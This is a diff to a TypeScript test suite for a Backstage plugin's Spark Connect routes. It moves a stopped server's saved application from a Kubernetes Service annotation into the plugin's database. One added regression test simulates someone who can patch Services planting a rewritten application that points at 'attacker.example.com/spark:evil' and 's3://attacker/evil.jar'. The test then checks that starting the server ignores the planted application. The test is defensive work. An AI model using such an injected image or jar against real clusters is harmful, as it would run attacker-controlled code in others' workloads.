@@ -1,16 +1,19 @@
 import { mockCredentials, mockServices } from '@backstage/backend-test-utils';
 import { KUBERNETES_RESOURCES, createSandbox } from '@emr-eks/sandbox';
+import { Knex } from 'knex';
 import request from 'supertest';
 import { ALICE, BOB, startBackend, teamB } from '../testing/backend';
+import { costDatabases } from '../testing/databases';
 import { undocumented } from '../testing/openapi';
-import { STOPPED_APPLICATION_ANNOTATION } from './connectServers';
+import { stoppedApplicationStore } from './connectService';
 
 /*
  * The Spark Connect routes over HTTP against the sandbox, whose Kubernetes API holds
  * data-team-a's seeded endpoint `team-connect` (SparkApplication, Service and Ingress as the
  * scaffolder action makes them) and runs a simulated Spark Operator. The kubernetes config,
  * the permission policy (owners write), the AWS ownership tag and the error mapping are
- * the production ones.
+ * the production ones; a stopped server's application is kept in the plugin's database
+ * (SQLite, and PostgreSQL when one is configured).
  */
 
 const A = '/api/emr-eks/v1/entity/default/resource/team-a-emr/spark-connect';
@@ -23,6 +26,9 @@ const as = (user: string) => ({
 });
 const kind = (plural: string) =>
   KUBERNETES_RESOURCES.find(r => r.plural === plural)!;
+/** Where earlier versions kept a stopped application; anyone who may patch Services can write it. */
+const OLD_ANNOTATION = 'emr-eks.backstage.io/stopped-spark-application';
+const databases = costDatabases();
 
 function kubernetesConfig(url: string) {
   return {
@@ -46,11 +52,14 @@ function kubernetesConfig(url: string) {
   };
 }
 
-describe('Spark Connect routes', () => {
+describe.each(databases.eachSupportedId())('Spark Connect routes on %s', id => {
   const sandbox = createSandbox({ seed: 5 });
   const auditor = mockServices.auditor.mock();
   let running: Awaited<ReturnType<typeof sandbox.listen>>;
   let server: Awaited<ReturnType<typeof startBackend>>;
+  let knex: Knex;
+  let kept: Awaited<ReturnType<typeof stoppedApplicationStore>>;
+  const keptHere = () => kept.get(`analytics-shared/${NS}`, NAME);
 
   const cluster = () => sandbox.kubernetes.cluster('analytics-shared')!;
   const application = () => cluster().find(kind('sparkapplications'), NS, NAME);
@@ -66,18 +75,23 @@ describe('Spark Connect routes', () => {
 
   beforeAll(async () => {
     running = await sandbox.listen(0);
+    knex = await databases.init(id);
     server = await startBackend({
       endpoint: running.url,
       visibleTo: 'everyone',
       permission: 'owner-writes',
       rootConfig: kubernetesConfig(running.url),
       auditor: auditor.factory,
+      features: [mockServices.database.factory({ knex })],
     });
+    // The backend's own store, migrated once per client.
+    kept = await stoppedApplicationStore(mockServices.database({ knex }));
   });
   afterAll(() => running.close());
-  beforeEach(() => {
+  beforeEach(async () => {
     sandbox.reset();
     auditor.createEvent.mockClear();
+    await knex('emr_eks_spark_connect_stopped').delete();
   });
 
   it("lists the namespace's Spark Connect server with its address and client code", async () => {
@@ -116,6 +130,13 @@ describe('Spark Connect routes', () => {
       address: 'sc://spark.data-team-a.example.com:443/;use_ssl=true',
     });
     expect(application()).toBeUndefined();
+    // Kept in the database, exactly as it ran; nothing written on the Service.
+    expect(await keptHere()).toMatchObject({
+      application: { kind: 'SparkApplication', spec },
+      createdBy: ALICE,
+      createdAt: stopped.body.stoppedAt,
+    });
+    expect(service()!.metadata.annotations?.[OLD_ANNOTATION]).toBeUndefined();
     // The operator's driver pod went with it.
     expect(cluster().find(kind('pods'), NS, `${NAME}-driver`)).toBeUndefined();
     expect(ingress()).toEqual(ingressBefore);
@@ -123,6 +144,7 @@ describe('Spark Connect routes', () => {
     expect((await call('get', A)).body.items[0]).toMatchObject({
       state: 'STOPPED',
       stoppedBy: ALICE,
+      stoppedAt: stopped.body.stoppedAt,
     });
     expect(auditor.createEvent).toHaveBeenCalledWith(
       expect.objectContaining({
@@ -145,9 +167,7 @@ describe('Spark Connect routes', () => {
       'app.kubernetes.io/name': 'spark-connect',
       'backstage.io/team': 'data-team-a',
     });
-    expect(
-      service()!.metadata.annotations[STOPPED_APPLICATION_ANNOTATION],
-    ).toBeUndefined();
+    expect(await keptHere()).toBeUndefined();
     // The simulated operator submits it, and a server stays up.
     sandbox.clock.advance(60 * 60_000);
     expect((await call('get', A)).body.items[0].state).toBe('RUNNING');
@@ -203,7 +223,7 @@ describe('Spark Connect routes', () => {
     expect(application()).toBeDefined();
   });
 
-  it('puts the Service back when the SparkApplication cannot be deleted: nothing half-done', async () => {
+  it('keeps nothing when the SparkApplication cannot be deleted: nothing half-done', async () => {
     sandbox.faults.set({
       errorRate: 1,
       errorStatus: 503,
@@ -216,9 +236,95 @@ describe('Spark Connect routes', () => {
     );
     sandbox.faults.clear();
     expect(application()).toBeDefined();
-    expect(
-      service()!.metadata.annotations?.[STOPPED_APPLICATION_ANNOTATION],
-    ).toBeUndefined();
+    expect(await keptHere()).toBeUndefined();
     expect((await call('get', A)).body.items[0].state).toBe('RUNNING');
+  });
+
+  it('starts what the stop kept, whatever the Service says meanwhile', async () => {
+    const spec = application()!.spec;
+    expect((await call('post', `${A}/${NAME}/stop`)).status).toBe(202);
+    // Someone who may patch Services writes another application where older versions kept it.
+    // Well-formed as older versions checked it (name, labels, server class), another image.
+    const svc = service()!;
+    const kept0 = (await keptHere())!.application;
+    const rewritten = {
+      stoppedAt: new Date().toISOString(),
+      stoppedBy: BOB,
+      application: {
+        ...kept0,
+        spec: {
+          ...kept0.spec,
+          image: 'attacker.example.com/spark:evil',
+          sparkConf: {
+            ...kept0.spec.sparkConf,
+            'spark.jars': 's3://attacker/evil.jar',
+          },
+        },
+      },
+    };
+    cluster().put(kind('services'), {
+      ...svc,
+      metadata: {
+        ...svc.metadata,
+        annotations: {
+          ...svc.metadata.annotations,
+          [OLD_ANNOTATION]: JSON.stringify(rewritten),
+        },
+      },
+    });
+
+    const list = await call('get', A);
+    expect(list.body.items[0]).toMatchObject({
+      state: 'STOPPED',
+      stoppedBy: ALICE,
+    });
+    const started = await call('post', `${A}/${NAME}/start`);
+    expect(started.status).toBe(202);
+    expect(application()!.spec).toEqual(spec);
+    expect(application()!.spec.image).not.toBe(rewritten.application.spec.image);
+    expect(await keptHere()).toBeUndefined();
+  });
+
+  it('answers 409 to a start with nothing kept, even beside an annotation an older version wrote', async () => {
+    const app = application()!;
+    // Deleted by hand (kubectl): the portal kept nothing.
+    cluster().delete(kind('sparkapplications'), NS, NAME);
+    const nothing = await call('post', `${A}/${NAME}/start`);
+    expect(nothing.status).toBe(409);
+    expect(nothing.body.error.message).toBe(
+      `Spark Connect server ${NAME} has no SparkApplication and was not stopped through the portal, so there is nothing to start it from; create it again with the template "Create a Spark Connect endpoint for a team"`,
+    );
+    expect((await call('get', A)).body.items[0].state).toBe('MISSING');
+
+    // What an older version wrote on stop, well-formed: not read, as anyone could have written it.
+    const svc = service()!;
+    cluster().put(kind('services'), {
+      ...svc,
+      metadata: {
+        ...svc.metadata,
+        annotations: {
+          ...svc.metadata.annotations,
+          [OLD_ANNOTATION]: JSON.stringify({
+            stoppedAt: new Date().toISOString(),
+            stoppedBy: ALICE,
+            application: {
+              apiVersion: app.apiVersion,
+              kind: app.kind,
+              metadata: {
+                name: NAME,
+                labels: app.metadata.labels,
+                annotations: app.metadata.annotations ?? {},
+              },
+              spec: app.spec,
+            },
+          }),
+        },
+      },
+    });
+    const old = await call('post', `${A}/${NAME}/start`);
+    expect(old.status).toBe(409);
+    expect(old.body.error.message).toBe(nothing.body.error.message);
+    expect(application()).toBeUndefined();
+    expect((await call('get', A)).body.items[0].state).toBe('MISSING');
   });
 });
